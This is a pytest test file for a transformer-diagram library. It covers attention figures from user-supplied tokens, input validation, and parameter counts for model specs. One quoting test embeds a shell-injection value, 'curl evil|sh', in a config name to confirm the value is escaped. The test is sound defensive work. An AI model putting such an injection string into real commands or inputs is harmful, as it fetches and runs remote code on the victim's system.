"""Own data and own specs: tokens from Python or JSON, and the roles of any architecture."""

from __future__ import annotations

import itertools
import json
import random
import shlex
from pathlib import Path
from typing import Any

import live_reference as ref
import numpy as np
import pytest

from transformer_diagrams.api import load
from transformer_diagrams.errors import DiagramError
from transformer_diagrams.live import (
    Role,
    Slider,
    commands,
    figure_of_roles,
    parameters_of,
    read_sentence,
    sentence,
    several_heads,
    who_attends,
)
from transformer_diagrams.live.pages import page
from transformer_diagrams.options import AskError


def own(n: int = 5, width: int = 6, keys: int = 4, seed: int = 3) -> dict[str, Any]:
    rng = np.random.default_rng(seed)
    return {
        "tokens": [f"w{i}" for i in range(n)],
        "embeddings": rng.normal(size=(n, width)),
        "w_q": rng.normal(size=(width, keys)),
        "w_k": rng.normal(size=(width, keys)),
    }


def test_own_tokens_in_both_figures() -> None:
    for n, width, keys in ((2, 3, 2), (5, 6, 4), (16, 40, 32), (11, 64, 24)):
        data = own(n, width, keys)
        q, k = (data["embeddings"] @ data[w] for w in ("w_q", "w_k"))
        figure = who_attends(sentence(**data))
        for sharpness in (0, 1, 8):
            found = figure.values(sharpness=sharpness)["A"]
            assert found == pytest.approx(ref.attention(q, k, sharpness), abs=1e-12)
        figure = several_heads(sentence(**data))
        for e in range(len(figure.sliders[0].values)):
            found = figure.values(log2h=e)["A"]
            for i, (a, b) in enumerate(
                zip(np.split(q, 2**e, 1), np.split(k, 2**e, 1), strict=True)
            ):
                assert found[i] == pytest.approx(ref.attention(a, b), abs=1e-12)
        assert len(figure.sliders[0].values) == {2: 2, 4: 3, 32: 4, 24: 4}[keys]
        assert figure.svg()
    assert who_attends(sentence(**own(32))).svg()


def test_own_tokens_from_a_file(tmp_path: Path) -> None:
    data = {k: v.tolist() if hasattr(v, "tolist") else v for k, v in own().items()}
    file = tmp_path / "own.json"
    file.write_text(json.dumps(data), encoding="utf-8")
    by_file = commands.find("who-attends", data=file)
    assert by_file.svg() == who_attends(sentence(**data)).svg()
    assert f"--data {file}" in page([by_file])
    short = {"tokens": data["tokens"], "E": data["embeddings"], "WQ": data["w_q"],
             "WK": data["w_k"]}  # fmt: skip
    file.write_text(json.dumps(short), encoding="utf-8")
    assert read_sentence(file) == sentence(**data)
    made = commands.export("several-heads", ["log2h=1"], tmp_path / "own.svg", data=file)
    assert "w4" in made.read_text(encoding="utf-8")


@pytest.mark.parametrize(
    ("change", "said"),
    [
        ({"tokens": ["a"]}, "between 2 and 32 tokens"),
        ({"tokens": ["a"] * 512}, "between 2 and 32 tokens"),
        ({"tokens": ["a", "b"]}, "one row for each token"),
        ({"embeddings": [[1.0, float("nan")]] * 5}, "nan"),
        ({"embeddings": [[1.0], [1.0, 2.0], [1.0], [1.0], [1.0]]}, "different lengths"),
        ({"embeddings": [["x"] * 6] * 5}, "holds 'x'"),
        ({"embeddings": [[10**400] * 6] * 5}, "beyond 1e+30"),
        ({"embeddings": [[1e308] * 6] * 5}, "beyond 1e+30"),
        ({"embeddings": [[["deep"]] * 6] * 5}, "holds list"),
        ({"tokens": [["a"], "b", "c", "d", "e"]}, "every token must be a word"),
        ({"tokens": ["a" * 10_000, "b", "c", "d", "e"]}, "200 letters"),
        ({"embeddings": 3}, "not a list of rows"),
        ({"w_q": np.ones((5, 4))}, "one row for each column"),
        ({"w_k": np.ones((6, 3))}, "equally wide"),
    ],
)
def test_own_data_that_does_not_fit_is_explained(change: dict[str, Any], said: str) -> None:
    with pytest.raises(DiagramError) as caught:
        sentence(**{**own(), **change})
    assert said in str(caught.value)


def test_faults_of_own_data_come_together() -> None:
    with pytest.raises(DiagramError) as caught:
        sentence(**{**own(), "tokens": ["a"], "w_q": [], "w_k": [[True]]})
    assert [f.path for f in caught.value.faults] == ["tokens", "w_q", "w_k"]
    for keys, words in ((3, "equal halves"),):
        with pytest.raises(DiagramError, match=words):
            several_heads(sentence(**own(keys=keys)))
    with pytest.raises(DiagramError, match="at most 16 tokens"):
        several_heads(sentence(**own(17)))


@pytest.mark.parametrize(
    ("text", "said"),
    [("{", "not JSON"), ("[]", "must hold an object"),
     ('{"tokens": ["a", "b"]}', "no 'embeddings'"), ('{"token": []}', "no 'tokens'"),
     ("[" * 100_000, "too deep"), ('{"tokens": [' + "9" * 5000 + "]}", "too many digits"),
     ("[" + "1," * 10_000_000, "larger than"), (None, "cannot be read")],
)  # fmt: skip
def test_files_that_are_no_data(text: str | None, said: str, tmp_path: Path) -> None:
    file = tmp_path / "data.json"
    if text is not None:
        file.write_text(text, encoding="utf-8")
    with pytest.raises(DiagramError, match=said) as caught:
        commands.find("who-attends", data=file)
    assert caught.value.faults[0].span.file == str(file)


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("dims: {d: w}\nconfigs: {a: {d: 4}}\ninputs: {x: [3, d]}\nblocks: [gelu]\n",
         "no learned weights"),
        ("inputs: {x: [3, 4]}\nblocks: [{op: linear, out: 8}]\n", "depends on a size"),
        ("dims: {theme: w}\nconfigs: {a: {theme: 4}}\ninputs: {x: [3, theme]}\n"
         "blocks: [{op: linear, out: theme}]\n", "cannot be named 'theme'"),
    ],
)  # fmt: skip
def test_a_spec_without_anything_to_move_is_told(text: str, said: str) -> None:
    with pytest.raises(AskError, match=said):
        parameters_of(load("x", text=text))


def test_names_in_a_stored_command_are_quoted() -> None:
    text = (
        "dims: {d: w}\nconfigs: {'a\"; curl evil|sh; ': {d: 4}}\ninputs: {x: [3, d]}\n"
        "blocks: [{op: linear, out: d}]\n"
    )
    words = shlex.split(parameters_of(load("x y.yaml", text=text)).options)
    assert words == ["--spec", "x y.yaml", "--config", 'a"; curl evil|sh; ']


SPECS = ("llama3", "gpt2", "bert", "transformer", "gqa", "swiglu")


@pytest.mark.parametrize("spec", SPECS)
def test_a_spec_counts_like_inspect(spec: str) -> None:
    """At the settings the sliders begin with and at random ones: number by number."""
    model = load(spec)
    figure = parameters_of(model)
    config = model.spec.show.config or next(iter(model.spec.configs))
    rng = random.Random(spec)
    valid = wrong = 0
    for turn in range(40):
        state = figure.state()
        if turn:
            for slider in rng.sample(figure.sliders, k=min(2, len(figure.sliders))):
                state[slider.name] = rng.choice(slider.values)
        found = figure.values(**state)
        sizes = {name: int(value) for name, value in state.items()}
        try:
            counted = model.inspect(config, set=sizes)["params"]
        except DiagramError:
            assert not found["valid"], sizes
            wrong += 1
            continue
        assert found["valid"], sizes
        valid += 1
        assert found["total"] == counted["total"]
        for role, number in counted["by_role"].items():
            if number:
                assert found[role] == number, (sizes, role)
    assert valid > 3
    if spec == "llama3":
        assert wrong > 0
        state = {"n_h": 32, "n_g": 12}
        assert figure.summary(**state).startswith("not a model: ")
        assert figure.values(**state)["total"] == 0


def test_a_spec_with_overrides_and_another_config(tmp_path: Path) -> None:
    model = load("llama3")
    assert parameters_of(model, "70B").values()["total"] == model.inspect("70B")["params"]["total"]
    tied = parameters_of(model, "8B", {"tied": True})
    wanted = model.inspect("8B", set={"tied": True})["params"]["total"]
    assert tied.values()["total"] == wanted
    text = commands.page(["where-parameters-go"], tmp_path / "x.html", "llama3").read_text("utf-8")
    assert "8,030,261,248 weights" in text
    with pytest.raises(DiagramError, match="no-such"):
        commands.find("where-parameters-go", spec="no-such")


@pytest.mark.browser
def test_a_spec_in_the_browser(open_tab: Any, tmp_path: Path) -> None:
    model = load("llama3")
    file = commands.page(["where-parameters-go"], tmp_path / "x.html", "llama3", config="8B")
    tab = open_tab(file)
    for sizes in ({}, {"L": 64, "d_m": 8192}, {"n_h": 8, "n_g": 8}, {"V": 64128}):
        got = tab.run("(s) => { const lv = document.querySelector('figure').lv; lv.set(s);"
                      " return [lv.get(), lv.params]; }", sizes)  # fmt: skip
        here = {name: int(v) for name, v in got[1].items()}
        assert here.items() >= sizes.items()
        counted = model.inspect("8B", set=here)["params"]
        assert got[0]["total"] == [counted["total"]]
        assert {r: got[0][r] for r in counted["by_role"]} == {
            r: [n] for r, n in counted["by_role"].items()
        }
    # A slider over sizes that are not evenly spaced: real keys go from one to the next.
    tab.page.focus("input[name=d_m]")
    tab.page.keyboard.press("Home")
    tab.page.keyboard.press("ArrowRight")
    values = next(s for s in parameters_of(model, "8B").sliders if s.name == "d_m").values
    assert tab.run("document.querySelector('figure').lv.params.d_m") == values[1]
    assert tab.run("document.activeElement.getAttribute('aria-valuetext')") == f"{values[1]:,.0f}"
    tab.page.click(".copy")
    command = tab.page.locator(".state code").nth(1).text_content()
    assert "--spec llama3 --config 8B" in command
    tab.quiet()


@pytest.mark.browser
def test_own_tokens_in_the_browser(open_tab: Any, tmp_path: Path) -> None:
    data = own(7, 12, 8)
    file = tmp_path / "own.html"
    figures = [who_attends(sentence(**data)), several_heads(sentence(**data))]
    file.write_text(page(figures), encoding="utf-8")
    tab = open_tab(file)
    q, k = (data["embeddings"] @ data[w] for w in ("w_q", "w_k"))
    got = tab.run("(s) => { const lv = document.querySelector('figure').lv; lv.set(s);"
                  " return lv.get().A; }", {"sharpness": 5})  # fmt: skip
    assert got == pytest.approx(ref.attention(q, k, 5).ravel(), abs=1e-9)
    tab.quiet()


def test_roles_from_a_function() -> None:
    """The figure takes any function that gives roles for sizes."""
    sliders = [Slider.range("d", "width d", 2, 8, 2, 4), Slider.range("n", "layers n", 1, 3, 1, 2)]
    figure = figure_of_roles(
        "Mine", "", "", sliders,
        [Role("a", "first", "blue", "x"), Role("b", "second", "orange", "y")],
        lambda p: {"a": p["n"] * p["d"] ** 2, "b": p["d"] * 10},
        check=lambda p: [(p["d"] < p["n"], "n must be at most d")],
    )  # fmt: skip
    for d, n in itertools.product((2, 4, 6, 8), (1, 2, 3)):
        found = figure.values(d=d, n=n)
        assert found["total"] == ((n * d * d + 10 * d) if d >= n else 0)
    assert "n must be at most d" in figure.summary(d=2, n=3)


def test_formulas_with_rounding_are_traced_exactly() -> None:
    from transformer_diagrams.dims import DimError, parse, parse_condition
    from transformer_diagrams.live.evaluate import Evaluator
    from transformer_diagrams.live.figures.spec_roles import failure, traced
    from transformer_diagrams.live.trace import Tape

    tape = Tape()
    sizes = {name: tape.param(name) for name in ("a", "b", "c")}
    formulas = ["3 a b^2 + 7", "a b / 2 + a / 2", "ceil(a / b) c", "floor(8 a / 3) + a % b",
                "min(a, b, 12) max(b, c)", "2 c (c + 1) / 2", "a^3 - b", "c / (a + b)"]  # fmt: skip
    arrays = {text: traced(parse(text), sizes) for text in formulas}
    conditions = ["a | c", "a <= b", "a == b", "a < c", "a >= b", "a > b", "a != b"]
    checks = {text: failure(parse_condition(text), sizes) for text in conditions}
    for a, b, c in itertools.product((1, 3, 4, 10), (1, 2, 7), (12, 30)):
        values = {"a": a, "b": b, "c": c}
        evaluator = Evaluator(tape.nodes)
        evaluator.set(values)
        for text, array in arrays.items():
            try:
                wanted = parse(text).evaluate(values)
            except DimError:  # an exact division with a remainder
                continue
            assert evaluator.value(array.index) == wanted, (text, values)
        for text, array in checks.items():
            assert evaluator.value(array.index) == (not parse_condition(text).evaluate(values))


def test_a_spec_without_numbers_says_what_it_needs(tmp_path: Path) -> None:
    spec = tmp_path / "bare.yaml"
    spec.write_text(
        "title: Bare\ndims: {d_t: positions, d_m: width}\ninputs: {x: [d_t, d_m]}\n"
        "blocks:\n  - {op: linear, out: d_m}\n",
        encoding="utf-8",
    )
    with pytest.raises(AskError, match="no number for d_m"):
        parameters_of(load(str(spec)))
    figure = parameters_of(load(str(spec)), None, {"d_m": 20})
    assert figure.values()["total"] in (400, 420)
